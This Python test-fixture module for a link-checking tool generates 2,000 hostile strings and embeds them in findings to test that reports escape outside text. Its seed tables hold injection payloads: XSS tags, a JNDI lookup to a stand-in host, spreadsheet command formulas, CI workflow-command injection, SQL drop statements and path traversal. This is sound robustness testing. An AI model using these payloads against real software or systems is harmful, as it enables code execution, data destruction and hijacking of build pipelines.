"""2,000 nasty strings, the same each time, and findings that hold them wherever a document or the web can put text.

`STRINGS` is the table; `findings()` puts one into each finding, in document order; `by_target()` sorts as the store
does for reports that group; `summary()` counts them. For any report: write `findings()`, let a real parser read it.
"""

import random
from collections import Counter
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

from linkcheck import urls
from linkcheck.model import (
    Change,
    Content,
    Ending,
    Finding,
    Kind,
    Memento,
    Outcome,
    Problem,
    Reason,
    Reference,
    Role,
    Span,
    Target,
    Verdict,
)
from linkcheck.reports.summary import Summary

NUMBER = 2000
NOW = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- linkcheck:other -->",
    "-->",
    "--!><b>",
    "<![CDATA[x]]>",
    "]]>",
    "]]]]><![CDATA[>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "&lt;b&gt; &amp; &#0; &#x1b; &nosuch; &",
    "<details open ontoggle=alert(1)><summary>",
    "</details></summary></testcase></testsuite></testsuites>",
    "\"'`><",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "</title></textarea></noscript>",
)
MARKDOWN = (
    "[click](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "www.evil.example",
    "https://evil.example/auto",
    "`code`",
    "``",
    "```",
    "`" * 7 + "x",
    "`",
    "a`b``c```d",
    " ` ",
    "\\`x\\`",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "***",
    "---",
    "===",
    "| a | b |\n|---|---|",
    "~~~",
    "**bold** __bold__ *i* ~~s~~",
    "@everyone @octocat",
    "#1 GH-1 octocat/hello#1 a5c3785ed8d6a35868bc169f07e40e889087fd2e",
    ":+1: :smile:",
    "/close\n/approve",
    "$\\href{javascript:alert(1)}{x}$",
    "[^1] [ ] [x]",
    "line one\n\n<b>block</b>\n\n",
    "    indented",
    "&copy;&#42;",
)
CONTROLS = (
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x07text\x1b]8;;\x07",
    "\x9b31m",
    "\x1bc",
    "\x1b[201~",
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x04\x05\x06\x0e\x1f",
    "good\x08\x08\x08\x08evil",
    "fine\rbroken",
    "one\ntwo",
    "one\r\ntwo",
    "\t",
    "\x0b\x0c",
    "\x7f",
    "\x85next",
    "\u2028line\u2029paragraph",
    "\u202egnp.exe",
    "\u2066isolate\u2069\u200f\u200e\u061c",
    "\ufeffbom",
    "\ufffe\uffff",
    "\U0001fffe\U0010ffff",
    "\ud800",
    "\udcff\udfff",
    "\ud83d\ude00 as halves",
    "\ue000\uf8ff",
    "\u200b\u200c\u200d\u2060",
    "\u0300\u0301\u0302" * 20,
    "\U000e0041\U000e007f",
)
COMMANDS = (
    "::error::owned",
    "::warning file=a,line=1::owned",
    "::add-mask::a",
    "::stop-commands::x",
    "::set-output name=a::b",
    "::set-env name=PATH::/evil",
    " \t::group::x",
    "\u3000::debug::x",
    "x\n::error::owned",
    "x\r::error::owned",
    "x%0A::error::owned",
    "%250A%0D%25",
    "a,b:c,file=/etc/passwd",
    "##[error]owned",
    "##[add-mask]a",
    "a ##[set-env name=PATH;]/evil",
    "###[group]x",
    "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStatus text='x']",
    "\x1b[0Ksection_start:1:x\r\x1b[0K",
    "::",
    ":: ::",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "a;=1+1",
    'a";=1+1',
    "a,=1",
    '"=1"',
    "'=1",
    "%=1",
)
TEMPLATES = (
    "{{7*7}}",
    "{% raw %}{% endraw %}",
    "${7*7}",
    "${{ github.token }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0} {1}",
    "%s %n %(x)s",
    "$(id)",
    "`id`",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "-rf",
    "'; DROP TABLE finding; --",
    "\\u0000 \\x1b \\n \\",
    "[bold]x[/bold] [link=https://evil.example]y[/]",
    "[/]",
    "__proto__",
    "constructor",
    "null",
    "NaN",
    "",
    " ",
    "\u00a0",
)
SCRIPTS = (
    "新聞，標題",
    "עברית",
    "العربية",
    "ﷺ",
    "👩\u200d🔬",
    "e\u0301",
    "ｆｕｌｌ",
    "ẞß",
    "İi",
    "𝒳",
)
LONG = ("x" * 5000, "新" * 3000, "<" * 2000, "`" * 1500, "&" * 1500, "a`" * 1000, "\\" * 999, "\x1b" * 700, "](" * 500)
FAMILIES = (MARKUP, MARKDOWN, CONTROLS, COMMANDS, FORMULAS, TEMPLATES, SCRIPTS, LONG)
_FRAMES = ("{}", "https://a.example/{}", "{}{}", "x{}", "{} y", "https://a.example/?q={}#{}", "\n{}", "{}\r\n")


def _strings() -> tuple[str, ...]:
    seeds = [text for family in FAMILIES for text in family]
    found = dict.fromkeys(seeds)
    chance = random.Random(1)
    while len(found) < NUMBER:
        parts = [chance.choice(seeds[: -len(LONG)]) for _ in range(chance.randint(1, 3))]
        frame = chance.choice(_FRAMES)
        found["".join(frame.replace("{}", part) for part in parts)] = None
    return tuple(found)


STRINGS = _strings()

_REASONS = {
    Outcome.OK: (Reason.AVAILABLE, Reason.AVAILABLE_LOCALLY),
    Outcome.REDIRECTED: (Reason.MOVED_PERMANENTLY, Reason.MOVED_TO_HTTPS),
    Outcome.AT_RISK: (Reason.PROXY_CACHE_ONLY, Reason.CERTIFICATE_EXPIRING),
    Outcome.BROKEN: (Reason.NOT_FOUND, Reason.SOFT_NOT_FOUND, Reason.INVALID_URL),
    Outcome.UNCERTAIN: (Reason.TIMED_OUT, Reason.BLOCKED, Reason.SERVER_ERROR),
    Outcome.SKIPPED: (Reason.EXCLUDED, Reason.UNSUPPORTED_SCHEME),
}


def finding(text: str, number: int = 0) -> Finding:
    """A finding with `text` in every place that text from outside can reach; `number` varies the rest."""
    outcome = tuple(Outcome)[number % len(Outcome)]
    reasons = _REASONS[outcome]
    reason = reasons[number // len(Outcome) % len(reasons)]
    change = tuple(Change)[number // 2 % len(Change)]
    if change is Change.ABSENT and outcome in (Outcome.BROKEN, Outcome.AT_RISK, Outcome.UNCERTAIN):
        change = Change.UPDATED
    url = (text, urls.resolve(text, "https://base.example/"), None)[number % 3]
    kind = tuple(Kind)[number % len(Kind)]
    line = number // 7 + 1
    span = Span(number, number + len(text), line, number % 80 + 1, line, number % 80 + 1 + len(text))
    target = Target(url if url is not None else text, tuple(Role)[number % len(Role)])
    content = Content(text, number, number, Ending.COMPLETE, "0" * 64)
    detail = f"the page is called '{text}'" if number % 2 else text
    verdict = Verdict(outcome, reason, detail, 404, text, 1, number / 7, NOW, content)
    reference = Reference(text or "empty", span, text, url, kind, text, text, text, targets=(target,))
    memento = Memento(text, NOW - timedelta(days=9), text) if number % 5 == 0 else None
    is_confirmed = outcome is Outcome.BROKEN and number % 4 == 1
    since = NOW - timedelta(days=number % 100) if outcome is Outcome.BROKEN else None
    return Finding(reference, (verdict,), outcome, reason, detail, change, is_confirmed, since, memento, NOW)


def findings() -> list[Finding]:
    """One for each string, in document order."""
    return [finding(text, number) for number, text in enumerate(STRINGS)]


_WORST_FIRST = (Outcome.BROKEN, Outcome.AT_RISK, Outcome.UNCERTAIN, Outcome.REDIRECTED, Outcome.OK, Outcome.SKIPPED)


def by_target(unsorted: Iterable[Finding]) -> list[Finding]:
    """As the store delivers them to reports that group."""
    return sorted(unsorted, key=_place)


def _place(one: Finding) -> tuple[object, ...]:
    url = one.reference.url
    address = url if url is not None else one.reference.raw
    texts = (urls.authority(url) if url else "", one.reason, address, one.detail)
    encoded = tuple(text.encode("utf-8", "surrogatepass") for text in texts)
    return _WORST_FIRST.index(one.outcome), *encoded, one.change is Change.ABSENT


def summary(counted: list[Finding], *, status: str = "finished", since: str | None = "the last run") -> Summary:
    """The numbers of these findings, with hostile names of inputs that could not be read."""
    return Summary(
        7,
        NOW,
        NOW + timedelta(minutes=3),
        status,
        ("a\x1b[2J", "<b>"),
        len({one.reference.path for one in counted}),
        len(counted),
        Counter(one.outcome for one in counted),
        Counter(one.reason for one in counted),
        Counter(one.reference.kind for one in counted),
        Counter((one.outcome, one.change) for one in counted),
        removed=2,
        problems=tuple(Problem(text, text) for text in STRINGS[:200]),
        since=since,
    )
